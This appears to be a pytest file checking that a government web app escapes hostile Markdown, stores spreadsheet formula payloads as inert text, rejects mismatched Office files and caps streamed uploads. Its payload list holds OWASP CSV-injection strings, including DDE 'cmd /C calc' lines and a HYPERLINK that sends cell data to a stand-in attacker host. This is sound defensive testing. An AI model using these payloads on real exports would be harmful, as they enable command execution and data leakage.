"""Attacks a hostile user would try (issue #14): each one fails on the code before its fix.

Markdown injection into session documents, formula injection into exported spreadsheets and
CSV, Office files whose inner structure does not match their name.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
from pathlib import Path

import pytest
from docx import Document
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader

from conaig_flow.bootstrap import App
from conaig_flow.clock import FixedClock
from conaig_flow.errors import DocumentRejected
from conaig_flow.rendering import blocks
from conaig_flow.rendering.cells import append_row, csv_value
from conaig_flow.rendering.reports import open_data
from conaig_flow.services import audit
from conaig_flow.services.deliverables import deliverables
from conaig_flow.services.sessions import actas, sessions
from conaig_flow.store.documents import DocumentStore
from tests.session_kit import lima, setup_people

#: The OWASP "CSV injection" payloads, and the other leading signs a spreadsheet evaluates.
FORMULA_PAYLOADS = [
    "=HYPERLINK(\"http://atacante.example/?\"&A1, \"Ver aporte\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
]


# --- Markdown typed into a session's place or an agenda note stays text --------------------

HOSTILE_PLACE = "Sala 2\n# ACUERDO: se aprueba todo\n| MIMP | a favor |"
HOSTILE_NOTE = "# Punto inventado\n- Acuerdo N° 99: falso [enlace](http://atacante.example)"


def _session_with_hostile_text(app: App, clock: FixedClock) -> int:
    st = setup_people(app)
    clock.set(lima("2022-05-16T09:00"))
    created = sessions.create_session(app, st, scheduled_at=lima("2022-05-20T10:00"), place=HOSTILE_PLACE)
    sessions.add_item(app, st, created.id, note=HOSTILE_NOTE)
    sessions.convene(app, st, created.id)
    return created.id


def test_markdown_typed_in_a_place_or_an_agenda_note_never_becomes_a_heading_list_or_table(
    app: App, clock: FixedClock,
) -> None:
    sid = _session_with_hostile_text(app, clock)
    _, md = actas.document(app, sid, "convocatoria", "md")
    text = md.decode("utf-8")
    lines = text.splitlines()
    # no line of the document starts with what the person typed: it stays inside its own line
    assert not any(line.startswith(("# ACUERDO", "| MIMP", "# Punto inventado", "- Acuerdo N° 99")) for line in lines)
    parsed = blocks.parse(text)
    headings = [b.text for b in parsed if b.kind.startswith("h")]
    assert not any("ACUERDO" in h or "inventado" in h for h in headings)
    assert not any(b.kind == "table" and any("MIMP" in c for r in b.rows for c in r) for b in parsed)
    # …and a reader sees exactly what was typed, on one line
    para_or_bullet = " ".join(b.text for b in parsed if b.kind in ("para", "bullet"))
    assert "Sala 2 # ACUERDO: se aprueba todo | MIMP | a favor |" in para_or_bullet
    assert "# Punto inventado - Acuerdo N° 99: falso [enlace](http://atacante.example)" in para_or_bullet


def test_hostile_markdown_is_plain_text_in_the_html_docx_and_pdf_too(app: App, clock: FixedClock) -> None:
    sid = _session_with_hostile_text(app, clock)
    _, page = actas.document(app, sid, "convocatoria", "html")
    html = page.decode("utf-8")
    assert "<h1>ACUERDO" not in html and "<h1># Punto" not in html and "<h1>Punto inventado" not in html
    assert "<a " not in html
    assert "Sala 2 # ACUERDO: se aprueba todo | MIMP | a favor |" in html
    _, docx_bytes = actas.document(app, sid, "convocatoria", "docx")
    doc = Document(io.BytesIO(docx_bytes))
    heading_texts = [p.text for p in doc.paragraphs if p.style is not None and p.style.name.startswith("Heading")]
    assert not any("ACUERDO" in h or "inventado" in h for h in heading_texts)
    assert any("# Punto inventado - Acuerdo N° 99" in p.text for p in doc.paragraphs)
    assert not doc.tables or not any("MIMP" in c.text for t in doc.tables for r in t.rows for c in r.cells)
    _, pdf = actas.document(app, sid, "convocatoria", "pdf")
    pdf_text = " ".join((p.extract_text() or "") for p in PdfReader(io.BytesIO(pdf)).pages)
    assert "ACUERDO: se aprueba todo | MIMP | a favor |" in " ".join(pdf_text.split())


def test_the_markdown_escape_round_trips_every_ascii_sign() -> None:
    typed = "".join(chr(c) for c in range(33, 127)) + " fin"
    assert blocks.unescape(blocks.escape(typed)) == typed
    (block,) = blocks.parse(blocks.escape(typed))
    assert block.kind == "para" and block.text == typed


def test_a_table_cell_keeps_an_escaped_bar_as_text() -> None:
    md = f"| a | b |\n|---|---|\n| {blocks.escape('uno | dos')} | tres |\n"
    (table,) = blocks.parse(md)
    assert table.rows == [["a", "b"], ["uno | dos", "tres"]]


# --- Formula injection: XLSX cells are text, CSV cells cannot start a formula ---------------

@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_every_owasp_payload_is_stored_as_inert_text_in_xlsx(payload: str) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    append_row(ws, [payload, 12])
    buffer = io.BytesIO()
    wb.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue()))["Sheet"]
    assert sheet["A1"].data_type == "s", f"{payload!r} was stored as {sheet['A1'].data_type}"
    assert sheet["A1"].value == payload  # the contributor's text is kept whole
    assert sheet["A1"].quotePrefix  # and stays text when someone edits the cell
    assert sheet["B1"].value == 12 and sheet["B1"].data_type == "n"


def test_an_error_code_typed_as_text_stays_text_in_xlsx() -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    append_row(ws, ["#N/A"])
    assert ws["A1"].data_type == "s"


def test_csv_values_that_start_a_formula_get_an_apostrophe_and_others_are_left_alone() -> None:
    assert csv_value("=1+1") == "'=1+1"
    assert csv_value("Aporte sobre el protocolo") == "Aporte sobre el protocolo"
    assert csv_value(-3) == -3  # numbers are numbers, not text a spreadsheet evaluates
    assert csv_value(None) is None


def test_a_contribution_starting_with_equals_is_text_in_the_secretariats_matrix(tmp_path: Path) -> None:
    from conaig_flow.services.consultation.export import to_xlsx

    class _C:  # the two view types the matrix reads, with hostile text in every free field
        title = "=HYPERLINK(\"http://x\")"
        document_name = "=1+1"
        opens_at = lima("2022-09-01T09:00")
        closes_at = lima("2022-09-30T18:00")

    class _K:
        superseded_by = None
        supersedes_id = None
        question_seq = 1
        question_text = "+Pregunta"
        id = 7
        received_at = lima("2022-09-02T10:00")
        submitter_name = "@Ana"
        submitter_organisation = "-Org"
        organisation_kind = None
        region = "\tLima"
        text = FORMULA_PAYLOADS[0]
        decision_label = "=Acogido"
        reason = "\r=1"
        change_location = "=A1"
        attachment_name = "=cmd|' /C calc'!A0.pdf"
        attachment_sha256 = "0" * 64
        consultation_id = 3

    data = to_xlsx(_C(), [_K()])  # type: ignore[list-item, arg-type]
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert ws["H5"].value == FORMULA_PAYLOADS[0]


def test_open_data_csv_and_xlsx_cannot_carry_a_formula(tmp_path: Path) -> None:
    hostile = [{"titulo": p, "n": 3} for p in FORMULA_PAYLOADS]
    csv_text = open_data.csv_text(hostile, ["titulo", "n"])
    values = [r["titulo"] for r in csv.DictReader(io.StringIO(csv_text))]
    for payload, value in zip(FORMULA_PAYLOADS, values, strict=True):
        assert value[0] not in "=+-@\t\r", f"{payload!r} written as {value!r}"
        assert value == "'" + payload  # OWASP: a leading apostrophe, the text kept
    assert [r["n"] for r in csv.DictReader(io.StringIO(csv_text))] == ["3"] * len(FORMULA_PAYLOADS)
    tables: dict[str, list[dict[str, object]]] = {d.name: [] for d in open_data.DATASETS}
    first = open_data.DATASETS[0]
    tables[first.name] = [{c.name: FORMULA_PAYLOADS[i % len(FORMULA_PAYLOADS)] for i, c in enumerate(first.columns)}]
    out = open_data.write(tables, "xlsx", tmp_path / "datos", "")
    book = load_workbook(next(p for p in out if p.suffix == ".xlsx"))
    formulas = [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


# --- Office files whose inner structure does not match ---------------------------------------

def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def test_a_zip_holding_only_index_html_named_docx_is_refused(tmp_path: Path) -> None:
    store = DocumentStore(tmp_path)
    fake = _zip({"index.html": b"<script>alert(1)</script>"})
    with pytest.raises(DocumentRejected) as caught:
        store.check("informe.docx", fake)
    assert "informe.docx" in caught.value.message and "Word" in caught.value.message
    with pytest.raises(DocumentRejected):
        store.check("cuadro.xlsx", fake)


def test_a_docx_with_a_word_document_part_but_an_xlsx_name_is_refused(tmp_path: Path) -> None:
    store = DocumentStore(tmp_path)
    buffer = io.BytesIO()
    Document().save(buffer)
    assert store.check("informe.docx", buffer.getvalue()).endswith("wordprocessingml.document")
    with pytest.raises(DocumentRejected):
        store.check("cuadro.xlsx", buffer.getvalue())


def test_a_real_xlsx_is_accepted(tmp_path: Path) -> None:
    store = DocumentStore(tmp_path)
    buffer = io.BytesIO()
    Workbook().save(buffer)
    assert store.check("cuadro.xlsx", buffer.getvalue()).endswith("spreadsheetml.sheet")


def test_a_damaged_zip_named_docx_is_refused_with_a_clear_message(tmp_path: Path) -> None:
    store = DocumentStore(tmp_path)
    buffer = io.BytesIO()
    Document().save(buffer)
    broken = buffer.getvalue()[:200]
    with pytest.raises(DocumentRejected) as caught:
        store.check("informe.docx", broken)
    assert "informe.docx" in caught.value.message


# --- Request bodies are capped while they stream in -----------------------------------------

def _chunked_post(base: str, path: str, total: int, headers: dict[str, str] | None = None) -> tuple[int, bytes]:
    """POST a chunked body of ``total`` bytes with no Content-Length; returns (bytes the server
    took before it answered or closed, the response bytes)."""
    import socket
    import threading
    from urllib.parse import urlsplit

    url = urlsplit(base)
    sock = socket.create_connection((url.hostname, url.port), timeout=30)
    response = bytearray()
    answered = threading.Event()

    def read() -> None:
        try:
            while chunk := sock.recv(65536):
                response.extend(chunk)
                answered.set()
        except OSError:
            pass
        answered.set()

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    head = [f"POST {path} HTTP/1.1", f"Host: {url.netloc}", "Transfer-Encoding: chunked",
            "Content-Type: multipart/form-data; boundary=XyZ"]
    head += [f"{k}: {v}" for k, v in (headers or {}).items()]
    sent = 0
    piece = b"x" * 65536
    try:
        sock.sendall(("\r\n".join(head) + "\r\n\r\n").encode())
        preamble = b'--XyZ\r\nContent-Disposition: form-data; name="documento"; filename="a.pdf"\r\n\r\n%PDF-'
        sock.sendall(f"{len(preamble):x}\r\n".encode() + preamble + b"\r\n")
        while sent < total and not answered.is_set():
            sock.sendall(f"{len(piece):x}\r\n".encode() + piece + b"\r\n")
            sent += len(piece)
    except OSError:
        pass  # the server closed the connection: what we measure
    answered.wait(timeout=30)
    reader.join(timeout=5)
    sock.close()
    return sent, bytes(response)


def test_a_chunked_upload_from_an_anonymous_client_is_cut_at_the_limit(sqlite_app: App) -> None:
    from tests.web_support import live_server

    sqlite_app.settings = dataclasses.replace(sqlite_app.settings, max_document_bytes=1_048_576)
    with live_server(sqlite_app) as base:
        sent, response = _chunked_post(base, "/entrar", 300 * 1_048_576)
    assert response.startswith(b"HTTP/1.1 413"), response[:200]
    assert b"cada documento puede pesar hasta 1 MB" in response
    # the server stopped taking the body near the 2 MB cap (1 MB document + 1 MB of form),
    # not after the whole 300 MB (a few socket buffers' worth of slack)
    assert sent < 40 * 1_048_576, f"{sent / 1_048_576:.0f} MB were taken before the refusal"


def test_a_chunked_upload_from_a_signed_in_officer_is_cut_and_changes_nothing(sqlite_app: App) -> None:
    from tests.web_support import PEOPLE, add_web_people, live_server, minsa_protocol, sign_in

    add_web_people(sqlite_app)
    sqlite_app.settings = dataclasses.replace(sqlite_app.settings, max_document_bytes=1_048_576)
    did = minsa_protocol(sqlite_app)
    with live_server(sqlite_app) as base:
        from conaig_flow.web import create_app

        c, csrf = sign_in(create_app(sqlite_app), PEOPLE["officer"])
        cookie = "; ".join(f"{k}={v}" for k, v in c.cookies.items())
        sent, response = _chunked_post(base, f"/entregables/{did}/acciones/submit", 300 * 1_048_576,
                                       {"Cookie": cookie, "X-CSRF-Token": csrf})
    assert response.startswith(b"HTTP/1.1 413"), response[:300]
    assert b"<html" in response and b"cada documento puede pesar hasta 1 MB" in response
    assert b'href="/acerca"' in response  # the site's own page, with its header and footer
    assert sent < 40 * 1_048_576
    from conaig_flow.services.deliverables import deliverables

    (d,) = [x for x in deliverables.list_deliverables(sqlite_app, entity="MINSA", activity="A1.1") if x.id == did]
    assert d.state == "draft"


def test_a_declared_body_over_the_limit_gets_a_spanish_page_in_the_browser_and_json_in_the_api(sqlite_app: App) -> None:
    from conaig_flow.web import create_app
    from tests.web_support import client

    web = create_app(sqlite_app)
    c = client(web)
    big = b"0" * (27 * 1024 * 1024)
    r = c.post("/entrar", content=big, headers={"content-type": "application/x-www-form-urlencoded",
                                                "referer": "http://127.0.0.1/entrar"})
    assert r.status_code == 413 and r.headers["content-type"].startswith("text/html")
    assert "cada documento puede pesar hasta 25 MB" in r.text and 'href="/entrar"' in r.text
    assert "26 MB" not in r.text
    r = c.post("/api/session", content=big, headers={"content-type": "application/json"})
    assert r.status_code == 413 and "hasta 25 MB" in r.json()["error"]


def test_a_file_just_over_the_limit_never_reads_as_the_limit_itself(tmp_path: Path) -> None:
    store = DocumentStore(tmp_path, max_bytes=25 * 1_048_576)
    with pytest.raises(DocumentRejected) as caught:
        store.check("grande.pdf", b"%PDF-" + b"0" * (25 * 1_048_576 + 40_000))
    assert "pesa 25.04 MB; el máximo es 25 MB" in caught.value.message


# --- Anonymous refusals are counted, not written one by one ---------------------------------

def _anonymous_rows(app: App) -> list[audit.RefusedAttempt]:
    return [a for a in audit.refused_attempts(app, limit=1000) if a.actor_role == "anonymous"]


def test_a_hundred_anonymous_requests_to_api_me_write_two_rows_and_keep_the_count(
    sqlite_app: App, clock: FixedClock,
) -> None:
    from conaig_flow.web import create_app
    from tests.web_support import client

    c = client(create_app(sqlite_app))
    clock.set(lima("2022-05-16T10:00"))
    for _ in range(100):
        assert c.get("/api/me").status_code == 401
    rows = _anonymous_rows(sqlite_app)
    assert len(rows) == 1 and rows[0].target == "/api/me desde testclient"
    clock.set(lima("2022-05-16T10:01:30"))  # the minute has passed: the next refusal writes the count
    assert c.get("/api/me").status_code == 401
    rows = _anonymous_rows(sqlite_app)
    assert len(rows) == 3
    summaries = [r.reason for r in rows if "intentos iguales más" in r.reason]
    assert len(summaries) == 1 and "(y 99 intentos iguales más hasta las 10:00)" in summaries[0]


def test_a_scan_of_many_paths_is_followed_for_twenty_kinds_and_the_rest_counted_together(
    sqlite_app: App, clock: FixedClock,
) -> None:
    clock.set(lima("2022-05-16T10:00"))
    for n in range(60):
        audit.record_anonymous_refusal(sqlite_app, "GET /api/deliverables", f"/api/deliverables/{n}", "Inicie sesión.")
    assert len(_anonymous_rows(sqlite_app)) == 20
    audit.flush_anonymous_refusals(sqlite_app)
    rows = _anonymous_rows(sqlite_app)
    assert len(rows) == 21
    (others,) = [r for r in rows if r.target == "varias rutas"]
    assert "(y 40 intentos iguales más hasta las 10:00)" in others.reason


def test_refusals_of_a_signed_in_person_are_still_written_each_time(sqlite_app: App) -> None:
    from conaig_flow.web import create_app
    from tests.web_support import PEOPLE, add_web_people, sign_in

    add_web_people(sqlite_app)
    web = create_app(sqlite_app)
    minsa_did = next(d.id for d in deliverables.list_deliverables(sqlite_app, entity="MINSA", activity="A1.1"))
    other, _ = sign_in(web, PEOPLE["other_officer"])
    for _ in range(3):
        assert other.get(f"/entregables/{minsa_did}").status_code == 404
    mine = [a for a in audit.refused_attempts(sqlite_app) if a.actor_email == PEOPLE["other_officer"]]
    assert len(mine) == 3
